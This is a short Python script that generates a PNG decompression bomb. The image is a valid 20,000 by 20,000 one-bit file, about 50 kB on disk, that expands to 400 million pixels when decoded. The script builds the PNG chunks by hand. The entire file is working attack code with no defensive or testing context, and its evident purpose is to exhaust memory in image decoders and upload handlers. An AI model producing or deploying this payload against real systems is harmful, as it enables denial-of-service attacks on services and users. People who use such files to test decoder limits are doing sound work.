"""A decompression bomb: a valid PNG of about 50 kB that decodes to 400 million pixels."""

import struct
import zlib
from itertools import repeat

SIDE = 20_000


def bomb() -> bytes:
    """Return a black PNG with one bit per pixel."""
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    squeeze = zlib.compressobj()
    row = bytes(1 + SIDE // 8)
    pixels = b"".join(map(squeeze.compress, repeat(row, SIDE))) + squeeze.flush()
    chunks = [_chunk(b"IHDR", header), _chunk(b"IDAT", pixels), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
